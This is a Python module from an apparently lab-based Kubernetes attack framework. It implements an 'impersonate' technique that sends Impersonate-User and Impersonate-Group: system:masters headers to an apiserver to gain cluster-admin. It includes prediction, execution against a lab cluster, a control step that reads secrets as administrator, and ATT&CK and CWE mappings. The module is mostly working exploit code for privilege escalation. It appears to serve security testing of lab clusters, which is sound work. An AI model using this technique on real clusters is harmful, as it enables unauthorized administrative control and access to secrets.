"""Become cluster-admin with two request headers that name a member of system:masters.

Impersonation lets administrators test what other users may do. A caller who may impersonate all
users and groups has every right. The attacker needs this right, or an apiserver that allows every
request. They send the headers, and the apiserver treats them as a member of ``system:masters``.
It stops if the authorizer gives the right to administrators only.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.decision import Action
from labkit.techniques._lib.api.access import (
    ASK_IDENTITY,
    CHANNEL,
    IDENTITY,
    api_url,
    caller_at,
    identity,
    may_all,
    options_at,
)
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.machines.admin import SECRETS_IN
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.technique import (
    ADMIN,
    NETWORK,
    POD,
    ROOT_ON_WORKER,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

USER, GROUP = "labkit", "system:masters"
HEADERS = ("--header", f"Impersonate-User: {USER}", "--header", f"Impersonate-Group: {GROUP}")
ACTIONS = (
    Action("impersonate", "users", name=USER),
    Action("impersonate", "groups", name=GROUP),
)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the caller may impersonate users and groups."""
    return may_all(model, caller_at(model.environment, foothold), ACTIONS)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the question who one is, which the log has under the caller's own name."""
    return [SentRequest(caller_at(model.environment, foothold), ASK_IDENTITY)]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask the apiserver for the caller's identity, with the impersonation headers."""

    def proof(answer: Answer) -> str:
        user, groups = identity(answer)
        if user != USER or GROUP not in groups:
            raise ProbeError(f"the apiserver knows the caller as {user}, not as {USER} in {GROUP}")
        return f"the apiserver takes the caller for {USER}, in group {GROUP}"

    def control() -> str:
        who = ("--as", USER, "--as-group", GROUP)
        lab.kubectl("get", f"--raw={SECRETS_IN}", *who)
        return "the administrator may act for the same user and group"

    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    return ask(
        lab,
        TECHNIQUE.name,
        foothold,
        api_url(lab, IDENTITY),
        body=json.dumps(body).encode(),
        options=[*options_at(lab.environment, foothold), *HEADERS],
        proof=proof,
        control=control,
    )


TECHNIQUE = Technique(
    name="impersonate",
    title="Become cluster-admin by claiming to act for one",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD, ROOT_ON_WORKER),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1134", "T1078.001"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-290", "CWE-269"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/user-impersonation/",
        "https://attack.mitre.org/techniques/T1134/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
)
